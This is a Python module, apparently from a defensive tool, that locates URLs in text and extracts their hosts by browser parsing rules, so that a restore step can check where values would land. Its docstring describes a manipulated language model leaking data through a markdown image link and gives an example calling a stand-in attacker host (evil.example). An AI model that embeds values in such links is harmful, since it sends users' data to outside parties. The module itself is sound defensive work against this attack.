"""URLs in running text: which host does a place in a text belong to?

A model that was talked into it can carry a value away in a link
(`![](https://evil.example/?q=VALUE)`), so a restore asks here first. The reading is
the browser's (WHATWG URL): a backslash is a slash, `https:` needs no slashes at all,
user info is not the host. It is deliberately generous: what might be a URL is one.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass

#: A URL ends at white space and at characters that no client takes into a link.
_TERMINATOR = re.compile(r"[\s\"<>`]")
_START = re.compile(
    r"(?i:\b(?:https?|wss?|ftp):[/\\]*|\b[a-z][a-z0-9+.-]{0,31}:(?:\\?[/\\]){2,}"
    r"|(?:(?<=[\s\"<>`(=\[,'])|\A)(?:\\?[/\\]){2}|\bwww\.)"
)
_AUTHORITY_END = re.compile(r"[\s\"<>`/\\?#]")
_TRAILING = ".,;:!?)]}'*_~|"
#: Longest URL that is followed back to its host; longer ones count as foreign.
MAX_URL_LENGTH = 4096
_BARE_HOST = re.compile(r"(?<![@\w.-])(?:[A-Za-z0-9-]{1,63}\.){1,8}[A-Za-z]{2,24}(?![\w@-])")


@dataclass(frozen=True, slots=True)
class UrlPlace:
    """A position inside a URL. `authority` is what stands before the position of it.

    `in_authority` is true while the position is still in front of the path, so that
    what follows the position belongs to the host as well.
    """

    authority: str
    in_authority: bool


def url_at(text: str, position: int) -> UrlPlace | None:
    """The URL that `position` stands in, or None. Looks back at most MAX_URL_LENGTH."""
    floor = max(0, position - MAX_URL_LENGTH)
    token_start = floor
    for match in _TERMINATOR.finditer(text, floor, position):
        token_start = match.end()
    # The look-behind of a scheme-relative start needs the character before the token.
    head = max(token_start - 1, 0)
    window = text[head:position]
    last = None
    for match in _START.finditer(window):
        if head + match.end() > token_start:
            last = match
    if last is None:
        return None
    begin = last.start() if last[0].lower() == "www." else last.end()
    rest = window[begin:]
    end = _AUTHORITY_END.search(rest)
    if end is None:
        return UrlPlace(rest, in_authority=True)
    return UrlPlace(rest[: end.start()], in_authority=False)


def authority_rest(text: str, position: int) -> tuple[str, bool]:
    """What follows `position` up to the end of the authority, and whether that end is in sight."""
    end = _AUTHORITY_END.search(text, position)
    if end is None:
        return text[position:], False
    return text[position : end.start()], True


def host_of(authority: str) -> str:
    """The host of an authority: lower case, without user info, port and trailing prose marks."""
    cut = authority.lstrip("/\\")
    end = _AUTHORITY_END.search(cut)
    if end is not None:
        cut = cut[: end.start()]
    cut = cut.rpartition("@")[2].rstrip(_TRAILING)
    if cut.startswith("["):
        return cut.partition("]")[0].lower()
    return cut.partition(":")[0].rstrip(_TRAILING).lower()


def hosts_in(text: str) -> Iterator[str]:
    """The hosts that a text names: in URLs, and bare domain names that are no e-mail domain."""
    if "//" in text or ":" in text or "www." in text or "\\" in text:
        for match in _START.finditer(text):
            begin = match.start() if match[0].lower() == "www." else match.end()
            rest, _ = authority_rest(text, begin)
            host = host_of(rest)
            if host:
                yield host
    if "." in text:
        for match in _BARE_HOST.finditer(text):
            yield match[0].lower()
